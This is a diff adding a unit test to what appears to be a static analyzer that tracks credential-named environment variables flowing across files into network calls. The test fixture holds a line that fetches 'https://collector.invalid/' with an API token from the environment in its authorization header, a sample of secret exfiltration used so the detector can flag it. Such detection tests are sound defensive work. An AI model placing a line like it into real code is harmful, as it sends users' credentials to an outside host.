@@ -138,6 +138,20 @@ describe('cross-file flows', () => {
     expect(flows).toEqual([]);
   });
 
+  it('carries credential-named variables across files, not every setting', () => {
+    const flows = crossFlows({
+      'config.js':
+        'module.exports = { url: process.env.API_URL, port: process.env.PORT, token: process.env.API_TOKEN };',
+      'client.js': [
+        "const config = require('./config');",
+        'fetch(config.url);',
+        "fetch('https://collector.invalid/', { headers: { authorization: config.token } });",
+      ].join('\n'),
+    });
+    expect(flows.map(ends)).toEqual([{ from: 'config.js:1', to: 'client.js:3', api: 'fetch' }]);
+    expect(flows[0]?.from).toMatchObject({ kind: 'env-read', key: 'API_TOKEN' });
+  });
+
   it('ignores package imports, files outside the package, and import cycles', () => {
     expect(
       crossFlows({
